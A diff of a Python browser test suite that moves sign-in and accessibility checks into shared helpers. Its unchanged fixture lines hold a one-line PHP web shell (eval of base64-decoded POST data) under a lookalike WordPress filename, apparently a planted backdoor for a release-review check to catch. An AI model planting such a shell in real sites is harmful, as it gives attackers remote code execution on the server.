@@ -7,7 +7,6 @@ from collections.abc import Iterator
 from dataclasses import replace
 
 import pytest
-from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, BrowserContext, Page
 from werkzeug.serving import make_server
 
@@ -29,11 +28,12 @@ from tests.support.factories import (
     report,
 )
 from tests.support.fakes import Clock, FakeSite, RecordingQueue
+from tests.support.page_problems import problems_of
+from tests.support.page_steps import sign_in_with
 from tests.support.release_reviews import compare, offer
 
 pytestmark = pytest.mark.nightly
 
-_WIDTHS = (320, 360, 600, 1280)
 _BACKDOOR = "includes/wp-comments-posts.php"
 _NEW = {
     _BACKDOOR: b"<?php @eval( base64_decode( $_POST['x'] ) );\n",
@@ -89,24 +89,7 @@ def _review(config: Config) -> Change:
 
 def _sign_in(page: Page, config: Config) -> None:
     page.goto(f"{config.origin}/sign-in")
-    page.get_by_label("E-mail").fill("ana@agency.example")
-    page.get_by_label("Password").fill(PASSWORD)
-    page.get_by_role("button", name="Sign in").click()
-    page.wait_for_url(lambda url: "/sign-in" not in url)
-
-
-def _problems_of(page: Page, name: str) -> list[str]:
-    found = []
-    for scheme in ("light", "dark"):
-        page.emulate_media(color_scheme=scheme)
-        for rule in Axe().run(page).response["violations"]:
-            found += [f"{name} ({scheme}) {rule['id']}: {one['html']}" for one in rule["nodes"][:3]]
-    for width in _WIDTHS:
-        page.set_viewport_size({"width": width, "height": 900})
-        excess = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
-        if page.evaluate(excess) > 0:
-            found.append(f"{name} is too wide at {width} px")
-    return found
+    sign_in_with(page, "ana@agency.example", PASSWORD)
 
 
 def test_the_pages_are_accessible_at_every_width(
@@ -117,7 +100,7 @@ def test_the_pages_are_accessible_at_every_width(
     _sign_in(page, config)
     for path in pages:
         page.goto(config.origin + path)
-        found += _problems_of(page, path)
+        found += problems_of(page, path)
     assert not found, "\n".join(found)
 
 
